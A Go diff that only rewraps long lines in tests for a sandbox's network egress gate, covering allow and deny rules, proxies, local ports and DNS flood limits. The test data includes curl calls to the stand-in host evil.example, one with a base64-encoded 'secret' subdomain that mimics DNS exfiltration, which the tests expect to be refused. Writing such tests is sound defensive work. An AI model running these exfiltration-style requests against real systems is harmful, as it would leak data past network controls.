@@ -60,7 +60,8 @@ func TestHostsAreRefused(t *testing.T) {
 			begin := time.Now()
 			got := mustExec(t, x, sh(tt.script))
 			if !got.Failed() || strings.Join(got.Refused, " ") != tt.refused {
-				t.Errorf("%s: refused %q, want %s\n%s%s", tt.script, got.Refused, tt.refused, got.Stdout, got.Stderr)
+				t.Errorf("%s: refused %q, want %s\n%s%s", tt.script, got.Refused, tt.refused, got.Stdout,
+					got.Stderr)
 			}
 			t.Logf("%s: %v", tt.script, time.Since(begin))
 		})
@@ -73,20 +74,22 @@ func TestHostsAreReached(t *testing.T) {
 	needs.Program(t, "curl")
 	port := origin(t)
 	at := func(host string) string { return fmt.Sprintf("%s:%d", host, port) }
-	x := gated(t, egress.Rules{Allow: []string{at("good.example"), "*." + at("wild.example"), "good.example:1"}, Deny: []string{"no.wild.example"}},
+	x := gated(t, egress.Rules{Allow: []string{at("good.example"), "*." + at("wild.example"),
+		"good.example:1"}, Deny: []string{"no.wild.example"}},
 		hostsAt(port, "good.example", "evil.example", "a.wild.example", "wild.example", "no.wild.example"))
 	for script, want := range map[string]string{
-		"curl -sS http://" + at("good.example") + "/x":                        at("good.example") + " /x",
-		"curl -sSp http://" + at("good.example") + "/x":                       at("good.example") + " /x",
-		"curl -sS -x $ALL_PROXY http://" + at("good.example") + "/x":          at("good.example") + " /x",
-		"curl -sS --noproxy '*' http://" + at("good.example") + "/x":          at("good.example") + " /x",
-		"curl -sS http://" + at("a.wild.example") + "/x":                      at("a.wild.example") + " /x",
-		"curl -sS -o /dev/null -w %{http_code} http://" + at("wild.example"):  "403",
-		"curl -sS -o /dev/null -w %{http_code} http://" + at("evil.example"):  "403",
-		"curl -sS -o /dev/null -w %{http_code} http://good.example":           "403",
-		"curl -sS -o /dev/null -w %{http_code} http://" + at("127.0.0.1"):     "000",
-		"curl -sS --noproxy '*' http://" + at("evil.example"):                 "",
-		"curl -sS --noproxy '' -x $HTTP_PROXY http://" + at("127.0.0.1"):      "hosts are reached by their name only",
+		"curl -sS http://" + at("good.example") + "/x":                       at("good.example") + " /x",
+		"curl -sSp http://" + at("good.example") + "/x":                      at("good.example") + " /x",
+		"curl -sS -x $ALL_PROXY http://" + at("good.example") + "/x":         at("good.example") + " /x",
+		"curl -sS --noproxy '*' http://" + at("good.example") + "/x":         at("good.example") + " /x",
+		"curl -sS http://" + at("a.wild.example") + "/x":                     at("a.wild.example") + " /x",
+		"curl -sS -o /dev/null -w %{http_code} http://" + at("wild.example"): "403",
+		"curl -sS -o /dev/null -w %{http_code} http://" + at("evil.example"): "403",
+		"curl -sS -o /dev/null -w %{http_code} http://good.example":          "403",
+		"curl -sS -o /dev/null -w %{http_code} http://" + at("127.0.0.1"):    "000",
+		"curl -sS --noproxy '*' http://" + at("evil.example"):                "",
+		"curl -sS --noproxy '' -x $HTTP_PROXY http://" +
+			at("127.0.0.1"): "hosts are reached by their name only",
 		"curl -sS -x $HTTP_PROXY http://" + at("no.wild.example"):             "--deny-domain denies it",
 		"curl -sSp http://" + at("evil.example"):                              "",
 		"curl -sSp -x $HTTP_PROXY http://good.example:1/":                     "",
@@ -98,7 +101,8 @@ func TestHostsAreReached(t *testing.T) {
 			t.Errorf("%s: %s%s", script, got.Stdout, got.Stderr)
 		}
 	}
-	got := mustExec(t, x, sh("curl -sS http://"+at("evil.example")+"; curl -sS --noproxy '*' http://c2VjcmV0.evil.example"))
+	got := mustExec(t, x, sh("curl -sS http://"+at("evil.example")+
+		"; curl -sS --noproxy '*' http://c2VjcmV0.evil.example"))
 	if want := []string{at("evil.example"), "c2vjcmv0.evil.example"}; !slices.Equal(got.Refused, want) {
 		t.Errorf("refused %q, want %q", got.Refused, want)
 	}
@@ -113,13 +117,15 @@ func TestHostsAreReached(t *testing.T) {
 func TestNetworksAreOfEqualHosts(t *testing.T) {
 	needs.Program(t, "sleep", "readlink")
 	x := gated(t, egress.Rules{}, nil)
-	y, err := runnerOn(x.ws.Dir(), Config{Helper: self(t), Egress: egress.Rules{Allow: []string{"good.example"}}})
+	y, err := runnerOn(x.ws.Dir(),
+		Config{Helper: self(t), Egress: egress.Rules{Allow: []string{"good.example"}}})
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer y.ws.Close()
 	defer y.Close()
-	s, err := x.StartServer(t.Context(), "", ServerCommand{Command: "sleep 100", Port: needs.Port(t), Wait: time.Millisecond})
+	s, err := x.StartServer(t.Context(), "",
+		ServerCommand{Command: "sleep 100", Port: needs.Port(t), Wait: time.Millisecond})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -135,7 +141,8 @@ func TestNetworksAreOfEqualHosts(t *testing.T) {
 func TestFloodsAreBounded(t *testing.T) {
 	needs.Program(t, "python3", "curl")
 	port := origin(t)
-	x := gated(t, egress.Rules{Allow: []string{fmt.Sprint("good.example:", port)}}, hostsAt(port, "good.example"))
+	x := gated(t, egress.Rules{Allow: []string{fmt.Sprint("good.example:", port)}},
+		hostsAt(port, "good.example"))
 	script := `import os, socket, struct, sys
 server = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((server, 53))
@@ -169,13 +176,15 @@ func TestLocalPortsAreReached(t *testing.T) {
 	dir := t.TempDir()
 	x := newRunner(t, dir, Config{Helper: self(t), Local: []int{port}})
 	needs.That(t, x.Fence().Alone, "network namespaces", "let users make them")
-	s, err := x.StartServer(t.Context(), "", ServerCommand{Command: fmt.Sprintf("curl -sS http://127.0.0.1:%d/of-a-server; sleep 100", port)})
+	s, err := x.StartServer(t.Context(), "",
+		ServerCommand{Command: fmt.Sprintf("curl -sS http://127.0.0.1:%d/of-a-server; sleep 100", port)})
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer x.StopServer(ServerName{ID: s.ID})
 	for _, host := range []string{"127.0.0.1", "[::1]", "localhost"} {
-		got := mustExec(t, x, sh(fmt.Sprintf("curl -sS http://%s:%d/x; curl -sS http://%[1]s:%[3]d/x", host, port, other)))
+		got := mustExec(t, x, sh(fmt.Sprintf("curl -sS http://%s:%d/x; curl -sS http://%[1]s:%[3]d/x",
+			host, port, other)))
 		if want := fmt.Sprintf("%s:%d /x\n", host, port); string(got.Stdout) != want || !got.Failed() {
 			t.Errorf("%s: %s%s", host, got.Stdout, got.Stderr)
 		}
@@ -213,8 +222,10 @@ func TestHostsAreNarrowedAndAdded(t *testing.T) {
 	}
 	x := gated(t, egress.Rules{Allow: allow}, hosts)
 	y := x.Within([]string{"good.example", "not a host"})
-	for host, reached := range map[string]bool{"good.example": true, "a.good.example": true, "other.example": false, "late.example": false} {
-		if got, refused := get(y, host); strings.Contains(got, "/x\n") != reached || strings.Contains(got, "/y\n") != reached || len(refused) > 0 == reached {
+	for host, reached := range map[string]bool{"good.example": true, "a.good.example": true,
+		"other.example": false, "late.example": false} {
+		if got, refused := get(y, host); strings.Contains(got, "/x\n") != reached ||
+			strings.Contains(got, "/y\n") != reached || len(refused) > 0 == reached {
 			t.Errorf("within: %s: %s, refused %q", host, got, refused)
 		}
 		if host == "late.example" {
@@ -227,7 +238,8 @@ func TestHostsAreNarrowedAndAdded(t *testing.T) {
 	if err := x.Policy().Allow(fmt.Sprint("late.example:", port)); err != nil {
 		t.Fatal(err)
 	}
-	if got, refused := get(x, "late.example"); !strings.Contains(got, "/x\n") || !strings.Contains(got, "/y\n") || len(refused) > 0 {
+	if got, refused := get(x, "late.example"); !strings.Contains(got, "/x\n") ||
+		!strings.Contains(got, "/y\n") || len(refused) > 0 {
 		t.Errorf("allowed: %s, refused %q", got, refused)
 	}
 	if err := x.Policy().Allow("10.0.0.1"); err == nil {
